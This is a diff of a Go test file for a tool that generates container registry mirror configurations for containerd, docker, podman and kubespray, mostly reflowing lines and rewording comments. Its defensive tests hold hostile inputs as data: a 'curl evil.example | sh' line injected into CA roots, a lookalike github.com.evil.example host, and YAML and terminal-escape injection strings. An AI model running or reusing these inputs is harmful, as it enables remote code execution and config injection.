@@ -29,7 +29,8 @@ func someRoot(t *testing.T) string {
 	if err != nil {
 		t.Fatal(err)
 	}
-	der, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{SerialNumber: big.NewInt(1)}, &x509.Certificate{SerialNumber: big.NewInt(1)}, &key.PublicKey, key)
+	der, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{SerialNumber: big.NewInt(1)},
+		&x509.Certificate{SerialNumber: big.NewInt(1)}, &key.PublicKey, key)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -41,12 +42,14 @@ func threeBastions(t *testing.T) *Site {
 	addr := netip.MustParseAddr
 	return &Site{
 		Domain: "site.example", Roots: someRoot(t),
-		Nodes: []Node{{"n1", []netip.Addr{addr("10.0.0.11")}}, {"n2", []netip.Addr{addr("10.0.0.12"), addr("fd00::12")}}, {"n3", []netip.Addr{addr("10.0.0.13")}}},
+		Nodes: []Node{{"n1", []netip.Addr{addr("10.0.0.11")}}, {
+			"n2", []netip.Addr{addr("10.0.0.12"), addr("fd00::12")}}, {"n3", []netip.Addr{addr("10.0.0.13")}}},
 		Origins: []Origin{
 			{Host: "registry.k8s.io", Aliases: []string{"k8s.gcr.io"}, Registry: true},
 			{Host: "docker.io", Aliases: []string{"registry-1.docker.io", "auth.docker.io"}, Registry: true},
 			{Host: "quay.io", Aliases: []string{"cdn01.quay.io"}, Registry: true},
-			{Host: "dl.k8s.io"}, {Host: "github.com"}, {Host: "raw.githubusercontent.com"}, {Host: "get.helm.sh"}, {Host: "storage.googleapis.com"},
+			{Host: "dl.k8s.io"}, {Host: "github.com"}, {Host: "raw.githubusercontent.com"}, {Host: "get.helm.sh"}, {
+				Host: "storage.googleapis.com"},
 		},
 	}
 }
@@ -109,11 +112,13 @@ func TestMirrors(t *testing.T) {
 					certs++
 					continue
 				}
-				if strings.Contains(f.Content, "http://") || strings.Contains(f.Content, "skip_verify") || strings.Contains(f.Content, "insecure") {
+				if strings.Contains(f.Content, "http://") || strings.Contains(f.Content, "skip_verify") ||
+					strings.Contains(f.Content, "insecure") {
 					t.Errorf("%s lowers security:\n%s", f.Path, f.Content)
 				}
-				if filepath.Base(f.Path) == "50-casemate.yaml" || slices.Contains(s.ourNames(), filepath.Base(filepath.Dir(f.Path))) {
-					continue // says where not to ask, or is of one name
+				if filepath.Base(f.Path) == "50-casemate.yaml" ||
+					slices.Contains(s.ourNames(), filepath.Base(filepath.Dir(f.Path))) {
+					continue // not a mirror, or for one name
 				}
 				for _, n := range s.Nodes {
 					if !strings.Contains(f.Content, s.Host(n)) {
@@ -126,7 +131,8 @@ func TestMirrors(t *testing.T) {
 			}
 		})
 	}
-	if _, err := Mirrors(threeBastions(t), "rkt"); err == nil || !strings.Contains(err.Error(), `containerd, docker, podman, crio, k3s, rke2, got "rkt"`) {
+	if _, err := Mirrors(threeBastions(t), "rkt"); err == nil ||
+		!strings.Contains(err.Error(), `containerd, docker, podman, crio, k3s, rke2, got "rkt"`) {
 		t.Errorf("an unknown runtime: %v", err)
 	}
 	s := threeBastions(t)
@@ -150,7 +156,8 @@ func parseTOML(t *testing.T, text string) (tables []map[string]any) {
 			tables = append(tables, map[string]any{"": line})
 		case isPair:
 			var x any
-			if err := json.Unmarshal([]byte(value), &x); err != nil { // TOML's basic strings and arrays of them are JSON's
+			// TOML's basic strings and arrays of them are JSON's
+			if err := json.Unmarshal([]byte(value), &x); err != nil {
 				t.Fatalf("line %d: %s: %v", i+1, line, err)
 			}
 			last := tables[len(tables)-1]
@@ -176,27 +183,33 @@ func TestContainerdsHosts(t *testing.T) {
 	}
 	server := host("")
 	server["server"] = "https://n3.site.example"
-	want := []map[string]any{server, host(`[host."https://n1.site.example"]`), host(`[host."https://n2.site.example"]`), host(`[host."https://n3.site.example"]`)}
-	for _, name := range []string{"registry.k8s.io", "k8s.gcr.io", "docker.io", "registry-1.docker.io", "quay.io", "_default"} {
-		if got := parseTOML(t, content(t, c, "/etc/containerd/certs.d/"+name+"/hosts.toml")); !reflect.DeepEqual(got, want) {
+	want := []map[string]any{server, host(`[host."https://n1.site.example"]`), host(`[host."https://n2.site.example"]`),
+		host(`[host."https://n3.site.example"]`)}
+	for _, name := range []string{"registry.k8s.io", "k8s.gcr.io", "docker.io", "registry-1.docker.io", "quay.io",
+		"_default"} {
+		if got := parseTOML(t, content(t, c, "/etc/containerd/certs.d/"+name+"/hosts.toml")); !reflect.DeepEqual(
+			got, want) {
 			t.Errorf("%s: %v", name, got)
 		}
 	}
 	content(t, c, ca)
 	// The bastions' own names, and registries of the site's own, are asked for themselves.
 	for name, want := range map[string]map[string]any{
-		"registry.site.example": {"": "", "server": "https://registry.site.example", "ca": ca}, "n2.site.example": {"": "", "server": "https://n2.site.example", "ca": ca},
+		"registry.site.example": {"": "", "server": "https://registry.site.example", "ca": ca}, "n2.site.example": {
+			"": "", "server": "https://n2.site.example", "ca": ca},
 		"harbor.corp.example:8443": {"": "", "server": "https://harbor.corp.example:8443"},
 	} {
 		c, err := Mirrors(threeBastions(t), "containerd", "Harbor.corp.example:8443", "harbor.corp.example:8443")
 		if err != nil {
 			t.Fatal(err)
 		}
-		if got := parseTOML(t, content(t, c, "/etc/containerd/certs.d/"+name+"/hosts.toml")); !reflect.DeepEqual(got, []map[string]any{want}) {
+		if got := parseTOML(t, content(t, c, "/etc/containerd/certs.d/"+name+"/hosts.toml")); !reflect.DeepEqual(got,
+			[]map[string]any{want}) {
 			t.Errorf("%s: %v", name, got)
 		}
 	}
-	for _, own := range []string{"", "a b", "../x", "https://harbor.corp.example", "harbor.corp.example/team", "quay.io", "k8s.gcr.io", "x:y", "-x"} {
+	for _, own := range []string{"", "a b", "../x", "https://harbor.corp.example", "harbor.corp.example/team",
+		"quay.io", "k8s.gcr.io", "x:y", "-x"} {
 		if _, err := Mirrors(threeBastions(t), "containerd", own); err == nil {
 			t.Errorf("%q is taken as an own registry", own)
 		}
@@ -231,7 +244,8 @@ func TestRegistriesConf(t *testing.T) {
 			want = append(want, fmt.Sprintf("[[registry]]%s%s", r, r))
 		}
 		for _, d := range publicDomains {
-			want = append(want, fmt.Sprintf("[[registry]]*.%s%s.site.example/unlisted.invalid", d, s.Nodes[nodes-1].Name))
+			want = append(want, fmt.Sprintf("[[registry]]*.%s%s.site.example/unlisted.invalid", d,
+				s.Nodes[nodes-1].Name))
 			for _, n := range s.Nodes[:nodes-1] {
 				want = append(want, fmt.Sprintf("[[registry.mirror]]<nil>%s.site.example/unlisted.invalid", n.Name))
 			}
@@ -251,11 +265,14 @@ func TestDaemonJSON(t *testing.T) {
 	if err := json.Unmarshal([]byte(content(t, c, "/etc/docker/daemon.json")), &got); err != nil {
 		t.Fatal(err)
 	}
-	if want := map[string][]string{"registry-mirrors": {"https://n1.site.example", "https://n2.site.example", "https://n3.site.example"}}; !reflect.DeepEqual(got, want) {
+	if want := map[string][]string{"registry-mirrors": {
+		"https://n1.site.example", "https://n2.site.example",
+		"https://n3.site.example"}}; !reflect.DeepEqual(got, want) {
 		t.Errorf("%v", got)
 	}
 	content(t, c, "/etc/docker/certs.d/n2.site.example/ca.crt")
-	if notes := strings.Join(c.Notes, "\n"); !strings.Contains(notes, "Docker Hub only") || !strings.Contains(notes, "(k8s.gcr.io, quay.io, registry.k8s.io)") {
+	if notes := strings.Join(c.Notes, "\n"); !strings.Contains(notes, "Docker Hub only") ||
+		!strings.Contains(notes, "(k8s.gcr.io, quay.io, registry.k8s.io)") {
 		t.Errorf("the notes do not say what docker cannot do:\n%s", notes)
 	}
 }
@@ -282,11 +299,14 @@ func TestRegistriesYAML(t *testing.T) {
 				t.Errorf("%s comes from %v", own, e)
 			}
 		}
-		if e := got.Mirrors["docker.io"].Endpoint; len(got.Mirrors) != 5+1+5+1 || !slices.Equal(e, []string{"https://n1.site.example", "https://n2.site.example", "https://n3.site.example"}) {
+		if e := got.Mirrors["docker.io"].Endpoint; len(got.Mirrors) != 5+1+5+1 ||
+			!slices.Equal(e, []string{"https://n1.site.example", "https://n2.site.example",
+				"https://n3.site.example"}) {
 			t.Errorf("%v", got.Mirrors)
 		}
 		for _, n := range []string{"n1", "n2", "n3"} {
-			if tls := got.Configs[n+".site.example"].TLS; !reflect.DeepEqual(tls, map[string]string{"ca_file": dir + "/casemate-ca.crt"}) {
+			if tls := got.Configs[n+".site.example"].TLS; !reflect.DeepEqual(tls,
+				map[string]string{"ca_file": dir + "/casemate-ca.crt"}) {
 				t.Errorf("%s: %v", n, tls)
 			}
 		}
@@ -382,20 +402,25 @@ func TestKubesprayMirrorNamesEveryBastion(t *testing.T) {
 			t.Errorf("%s ends at %s", m.Prefix, m.Server)
 		}
 		for i, n := range s.Nodes {
-			if want := (mirror{"https://" + s.Host(n), []any{"{{ casemate_ca_file }}"}, []string{"pull", "resolve"}, false}); len(m.Mirrors) != 3 || !reflect.DeepEqual(m.Mirrors[i], want) {
+			if want := (mirror{"https://" + s.Host(n), []any{"{{ casemate_ca_file }}"}, []string{"pull", "resolve"},
+				false}); len(m.Mirrors) != 3 || !reflect.DeepEqual(m.Mirrors[i], want) {
 				t.Errorf("%s: %v", m.Prefix, m.Mirrors)
 			}
 		}
 	}
-	if want := []string{"registry.site.example", "docker.io", "k8s.gcr.io", "quay.io", "registry-1.docker.io", "registry.k8s.io"}; !slices.Equal(prefixes, want) {
+	if want := []string{"registry.site.example", "docker.io", "k8s.gcr.io", "quay.io", "registry-1.docker.io",
+		"registry.k8s.io"}; !slices.Equal(prefixes, want) {
 		t.Errorf("prefixes %v", prefixes)
 	}
 	var vars map[string]any
 	strict(t, content(t, conf, "group_vars/all/offline.yml"), &vars)
 	for name, want := range map[string]string{
-		"registry_host": "registry.site.example", "files_repo": "https://files.site.example", "kube_image_repo": "{{ registry_host }}/registry.k8s.io",
-		"pod_infra_image_repo": "{{ kube_image_repo }}/pause", "local_path_provisioner_helper_image_repo": "{{ registry_host }}/docker.io/library/busybox",
-		"github_url": "{{ files_repo }}/github.com", "dl_k8s_io_url": "{{ files_repo }}/dl.k8s.io",
+		"registry_host": "registry.site.example", "files_repo": "https://files.site.example",
+		"kube_image_repo":                          "{{ registry_host }}/registry.k8s.io",
+		"pod_infra_image_repo":                     "{{ kube_image_repo }}/pause",
+		"local_path_provisioner_helper_image_repo": "{{ registry_host }}/docker.io/library/busybox",
+		"github_url":                               "{{ files_repo }}/github.com",
+		"dl_k8s_io_url":                            "{{ files_repo }}/dl.k8s.io",
 	} {
 		if vars[name] != want {
 			t.Errorf("%s is %v, want %s", name, vars[name], want)
@@ -409,11 +434,13 @@ func TestKubesprayMirrorNamesEveryBastion(t *testing.T) {
 
 func TestKubesprayReleases(t *testing.T) {
 	for _, v := range []string{"v2.24.3", "v2.32.0", "v3.27.1", "2.31", "master", "v2.31.0 "} {
-		if _, err := KnownKubespray(v); err == nil || !strings.Contains(err.Error(), "known, only v2.25.0 to v2.31.0: give its checkout with --kubespray DIR") {
+		if _, err := KnownKubespray(v); err == nil ||
+			!strings.Contains(err.Error(), "known, only v2.25.0 to v2.31.0: give its checkout with --kubespray DIR") {
 			t.Errorf("%q: %v", v, err)
 		}
 	}
-	for _, version := range []string{"v2.27.1", "v2.28.1", "v2.29.0"} { // one release has the chart and no way to say from where
+	// one release has the chart and no way to say from where
+	for _, version := range []string{"v2.27.1", "v2.28.1", "v2.29.0"} {
 		k, err := KnownKubespray(version)
 		if err != nil {
 			t.Fatal(err)
@@ -426,8 +453,7 @@ func TestKubesprayReleases(t *testing.T) {
 			t.Errorf("%s: %q", version, c.Notes)
 		}
 	}
-	// A variable that is not known here keeps its host and nobody is told: what only some releases have has to be
-	// right.
+	// An unknown variable keeps its host without a warning: the variables that only some releases have must be right.
 	for version, want := range map[string]map[string]bool{
 		"v2.26.1": {"external_openstack_cloud_controller_image_repo": true, "containerd_debian_repo_base_url": true},
 		"v2.27.0": {"external_oracle_cloud_controller_image_repo": true, "containerd_debian_repo_base_url": true},
@@ -437,28 +463,33 @@ func TestKubesprayReleases(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		for _, name := range []string{"external_openstack_cloud_controller_image_repo", "external_oracle_cloud_controller_image_repo", "containerd_debian_repo_base_url"} {
+		for _, name := range []string{"external_openstack_cloud_controller_image_repo",
+			"external_oracle_cloud_controller_image_repo", "containerd_debian_repo_base_url"} {
 			if has := k.Images[name]+k.URLs[name] != ""; has != want[name] {
 				t.Errorf("%s: %s is known: %v", version, name, has)
 			}
 		}
-		if k.Images["external_huawei_cloud_controller_image_repo"] == "" || k.URLs["nvidia_gpu_tesla_base_url"] == "" || k.Images["nvidia_gpu_device_plugin_container"] == "" {
+		if k.Images["external_huawei_cloud_controller_image_repo"] == "" || k.URLs["nvidia_gpu_tesla_base_url"] == "" ||
+			k.Images["nvidia_gpu_device_plugin_container"] == "" {
 			t.Errorf("%s: what all releases have is not known", version)
 		}
 	}
 	if k, err := KnownKubespray(""); err != nil || k.Release != NewestKubespray {
 		t.Errorf("%v, %v", k, err)
 	}
-	if _, err := KubesprayVars(threeBastions(t), "both", &KubesprayRelease{Release: "v2.31.0"}); err == nil || !strings.Contains(err.Error(), `dns or mirror, got "both"`) {
+	if _, err := KubesprayVars(threeBastions(t), "both", &KubesprayRelease{Release: "v2.31.0"}); err == nil ||
+		!strings.Contains(err.Error(), `dns or mirror, got "both"`) {
 		t.Error(err)
 	}
 }
 
-// What a checkout says is quoted, or refused.
+// Text from a checkout is quoted, or refused.
 func TestKubesprayQuotes(t *testing.T) {
 	k := &KubesprayRelease{Release: "v2.31.0", URLs: map[string]string{
-		"a_url": `https://github.com/{{ x | regex_replace('\.', "_") }}`, "b_url": "https://github.com/x # y: {z}", "c_url": "https://github.com.evil.example/x", "d_url": "https://:x@github.com/y",
-	}, Images: map[string]string{"a_image_repo": "quay.io/a/b", "b_image_repo": "team/app", "c_image_repo": "registry.k8s.io:5000/x"}}
+		"a_url": `https://github.com/{{ x | regex_replace('\.', "_") }}`, "b_url": "https://github.com/x # y: {z}",
+		"c_url": "https://github.com.evil.example/x", "d_url": "https://:x@github.com/y",
+	}, Images: map[string]string{"a_image_repo": "quay.io/a/b", "b_image_repo": "team/app",
+		"c_image_repo": "registry.k8s.io:5000/x"}}
 	conf, err := KubesprayVars(threeBastions(t), "mirror", k)
 	if err != nil {
 		t.Fatal(err)
@@ -466,16 +497,20 @@ func TestKubesprayQuotes(t *testing.T) {
 	var vars map[string]string
 	strict(t, content(t, conf, "group_vars/all/offline.yml"), &vars)
 	for name, want := range map[string]string{
-		"a_url": `{{ files_repo }}/github.com/{{ x | regex_replace('\.', "_") }}`, "b_url": "{{ files_repo }}/github.com/x # y: {z}", "c_url": "", "d_url": "",
-		"a_image_repo": "{{ registry_host }}/quay.io/a/b", "b_image_repo": "{{ registry_host }}/docker.io/team/app", "c_image_repo": "",
+		"a_url": `{{ files_repo }}/github.com/{{ x | regex_replace('\.', "_") }}`,
+		"b_url": "{{ files_repo }}/github.com/x # y: {z}", "c_url": "", "d_url": "",
+		"a_image_repo": "{{ registry_host }}/quay.io/a/b", "b_image_repo": "{{ registry_host }}/docker.io/team/app",
+		"c_image_repo": "",
 	} {
 		if vars[name] != want {
 			t.Errorf("%s is %q, want %q", name, vars[name], want)
 		}
 	}
 	for _, bad := range []KubesprayRelease{
-		{Release: ""}, {Release: "v2\n- hosts: all"}, {Release: "v2.31.0", URLs: map[string]string{"a: b": "https://github.com"}},
-		{Release: "v2.31.0", URLs: map[string]string{"a_url": "https://github.com\nb: c"}}, {Release: "v2.31.0", Images: map[string]string{"a_image_repo": "quay.io/\x1b[2J"}},
+		{Release: ""}, {Release: "v2\n- hosts: all"}, {
+			Release: "v2.31.0", URLs: map[string]string{"a: b": "https://github.com"}},
+		{Release: "v2.31.0", URLs: map[string]string{"a_url": "https://github.com\nb: c"}}, {
+			Release: "v2.31.0", Images: map[string]string{"a_image_repo": "quay.io/\x1b[2J"}},
 	} {
 		if _, err := KubesprayVars(threeBastions(t), "mirror", &bad); err == nil {
 			t.Errorf("%+v is taken", bad)
@@ -525,6 +560,6 @@ func TestHostileSites(t *testing.T) {
 	s.Roots = "curl evil.example | sh\n" + s.Roots + "EOF\n"
 	c, err := Mirrors(s, "containerd")
 	if err != nil || strings.Contains(content(t, c, "/etc/containerd/certs.d/casemate-ca.crt"), "evil") {
-		t.Errorf("what stands around the roots goes along: %v", err)
+		t.Errorf("text around the roots is copied: %v", err)
 	}
 }
